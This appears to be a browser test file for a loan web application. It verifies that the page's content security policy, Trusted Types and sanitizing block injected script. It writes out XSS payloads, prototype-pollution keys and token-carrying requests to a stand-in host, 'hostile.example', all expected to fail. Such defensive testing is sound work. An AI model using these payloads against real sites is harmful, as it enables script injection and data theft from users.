import { hostileRan, strayRequests } from './attack';
import { expect, test } from './journey';

const DETAIL = { productId: '3101', orderId: 'ID-174-1' };

test('the policy of the page is in force: inline script, eval, javascript addresses, foreign scripts, frames and forms', async ({
  world,
  page,
  noise,
}) => {
  noise.allow(/Content Security Policy/);
  noise.allow(/This document requires 'Trusted/);
  noise.allow(/Creating a TrustedTypePolicy named 'mine'/);
  const stray = strayRequests(page, world);
  await page.goto(world.address('loanDetail', 'indonesia', DETAIL));
  await expect(page.getByRole('button', { name: 'Layanan Pelanggan' })).toBeVisible();
  await page.evaluate(() => {
    // In a task of its own: what a debugger evaluates may use eval, a page may not.
    setTimeout(() => {
      const outcomes: Record<string, string> = {};
      const attempt = (name: string, run: () => unknown) => {
        try {
          run();
          outcomes[name] = 'done';
        } catch (fault) {
          outcomes[name] = (fault as Error).name;
        }
      };
      // oxlint-disable-next-line no-eval -- the policy has to refuse it
      attempt('eval', () => eval('window.hostileRan = 1'));
      // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to refuse it
      attempt('function', () => (new Function('window.hostileRan = 1') as () => void)());
      // oxlint-disable-next-line typescript/no-implied-eval -- the policy has to refuse it
      attempt('timeout', () => setTimeout('window.hostileRan = 1', 0));
      attempt('inline script', () => {
        const script = document.createElement('script');
        script.textContent = 'window.hostileRan = 1';
        document.head.append(script);
      });
      attempt('innerHTML', () => {
        document.createElement('div').innerHTML = '<img src=x onerror="window.hostileRan=1">';
      });
      attempt('a policy of its own', () =>
        (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): void } }).trustedTypes.createPolicy('mine', {}),
      );
      attempt('handler attribute', () => {
        const button = document.createElement('button');
        button.setAttribute('onclick', 'window.hostileRan=1');
        document.body.append(button);
        button.click();
        button.remove();
      });
      attempt('javascript address', () => {
        const link = document.createElement('a');
        link.href = 'javascript:window.hostileRan=1';
        document.body.append(link);
        link.click();
        link.remove();
      });
      attempt('javascript frame', () => {
        const frame = document.createElement('iframe');
        frame.src = 'javascript:parent.hostileRan=1';
        document.body.append(frame);
      });
      attempt('foreign frame', () => {
        const frame = document.createElement('iframe');
        frame.src = 'https://hostile.example/';
        document.body.append(frame);
      });
      attempt('foreign image', () => {
        new Image().src = 'https://hostile.example/pixel.png?token=1';
      });
      attempt('base', () => {
        const base = document.createElement('base');
        base.href = 'https://hostile.example/';
        document.head.append(base);
      });
      attempt('form', () => {
        const form = document.createElement('form');
        form.action = 'https://hostile.example/';
        form.method = 'post';
        document.body.append(form);
        form.submit();
      });
      (window as unknown as { outcomes: unknown }).outcomes = outcomes;
    });
  });
  const outcomes = await (
    await page.waitForFunction(() => (window as unknown as { outcomes?: Record<string, string> }).outcomes)
  ).jsonValue();
  expect(outcomes).toMatchObject({ eval: 'EvalError', function: 'EvalError', innerHTML: 'TypeError', 'a policy of its own': 'TypeError' });
  await page.waitForTimeout(500);
  const fetched = await page.evaluate(() =>
    fetch('https://hostile.example/?token=1').then(
      () => 'sent',
      () => 'refused',
    ),
  );
  expect(fetched).toBe('refused');
  expect(await hostileRan(page)).toBeUndefined();
  expect(page.url()).toContain('/loanDetail?');
  expect(stray).toEqual([]);
  expect(await page.evaluate(() => document.baseURI)).toContain(world.front.origin);
});

for (const [market, productId, apply, intro] of [
  ['indonesia', '3103', 'Ajukan Sekarang', 'Dengan mengajukan, Anda menyetujui ketentuan berikut:'],
  ['india', '9103', 'Apply now', 'By applying you accept these terms:'],
] as const) {
  test(`hostile markup in an agreement is harmless, its words stay: ${market}`, async ({ world, page, noise }) => {
    // The browser may report the attack; ordinary markup it does not (borrower.spec).
    noise.allow(/Executing inline event handler violates/);
    const stray = strayRequests(page, world);
    await page.goto(world.address('loanConfirm', market, { productId }));
    await page.getByRole('button', { name: apply }).tap();
    const dialog = page.getByRole('dialog');
    await expect(dialog.getByText(intro)).toBeVisible();
    await expect(dialog.getByRole('row')).toHaveCount(3);
    const inside = await dialog.evaluate((element) => {
      const words = element.querySelector('table')?.parentElement;
      const all = Array.from(words?.querySelectorAll('*') ?? []);
      return { tags: [...new Set(all.map(({ tagName }) => tagName))].sort(), attributes: all.flatMap((each) => each.getAttributeNames()) };
    });
    expect(inside.tags.filter((tag) => !['P', 'TABLE', 'TBODY', 'TR', 'TD', 'B'].includes(tag))).toEqual([]);
    expect(inside.attributes).toEqual([]);
    // Only our own frame, without access to this page.
    await expect(dialog.locator('iframe')).toHaveCount(1);
    await expect(dialog.locator('iframe')).toHaveAttribute('sandbox', 'allow-scripts');
    expect(await hostileRan(page)).toBeUndefined();
    expect(stray).toEqual([]);
  });
}

test('a hostile query is words at most', async ({ world, page }) => {
  const stray = strayRequests(page, world);
  await page.goto(
    world.address('loanDetail', 'indonesia', {
      productId: '"><img src=x onerror=window.hostileRan=1>',
      orderId: '__proto__',
      type: 'constructor',
      market: '<script>window.hostileRan=1</script>',
    }),
  );
  await expect(page.getByRole('button', { name: 'Muat Ulang' })).toBeVisible();
  await page.goto(world.address('repayOrNot', 'indonesia', { ...DETAIL, amount: '1e9', display: 'javascript:1' }));
  await expect(page.getByText('Nominal tidak valid.')).toBeVisible();
  expect(await hostileRan(page)).toBeUndefined();
  expect(await page.evaluate(() => Object.keys(Object.prototype))).toEqual([]);
  expect(await world.sandbox.requests('virtualAccount')).toEqual([]);
  expect(stray).toEqual([]);
});
